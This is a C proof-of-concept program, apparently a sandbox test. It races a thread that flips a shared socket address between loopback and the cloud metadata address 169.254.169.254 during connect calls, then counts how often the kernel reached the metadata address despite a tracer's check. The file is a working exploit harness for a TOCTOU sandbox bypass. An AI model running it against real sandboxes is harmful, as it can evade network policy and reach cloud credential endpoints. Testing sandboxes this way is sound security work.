/* Attacker: a second thread rewrites the address between the tracer's read and the
 * kernel's. N UDP sockets each connect to the shared sockaddr; getpeername says
 * where the kernel really connected. Prints "metadata M loopback L". */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <sched.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static struct sockaddr_in addr;
static volatile int stop;

/* Keep the swapper running beside the victim: each on its own CPU (when there are two). */
static void pin(int cpu) {
    cpu_set_t set;
    CPU_ZERO(&set);
    CPU_SET(cpu % (int)sysconf(_SC_NPROCESSORS_ONLN), &set);
    sched_setaffinity(0, sizeof set, &set);
}

static void *swapper(void *arg) {
    (void)arg;
    pin(1);
    in_addr_t meta = inet_addr("169.254.169.254"), lo = inet_addr("127.0.0.1");
    while (!stop) {
        addr.sin_addr.s_addr = meta;
        __asm__ volatile("" ::: "memory"); /* both stores happen */
        addr.sin_addr.s_addr = lo;
        __asm__ volatile("" ::: "memory");
    }
    return NULL;
}

int main(int argc, char **argv) {
    int n = argc > 1 ? atoi(argv[1]) : 200;
    addr.sin_family = AF_INET;
    addr.sin_port = htons(80);
    addr.sin_addr.s_addr = inet_addr("127.0.0.1");
    pin(0);
    pthread_t t;
    pthread_create(&t, NULL, swapper, NULL);
    int m = 0, l = 0;
    for (int i = 0; i < n; i++) {
        int fd = socket(AF_INET, SOCK_DGRAM, 0);
        if (fd < 0) return 2;
        if (connect(fd, (struct sockaddr *)&addr, sizeof addr) == 0) {
            struct sockaddr_in peer;
            socklen_t len = sizeof peer;
            if (getpeername(fd, (struct sockaddr *)&peer, &len) == 0) {
                if (peer.sin_addr.s_addr == inet_addr("169.254.169.254")) m++;
                else if (peer.sin_addr.s_addr == inet_addr("127.0.0.1")) l++;
            }
        }
        close(fd);
    }
    stop = 1;
    pthread_join(t, NULL);
    printf("metadata %d loopback %d\n", m, l);
    return 0;
}
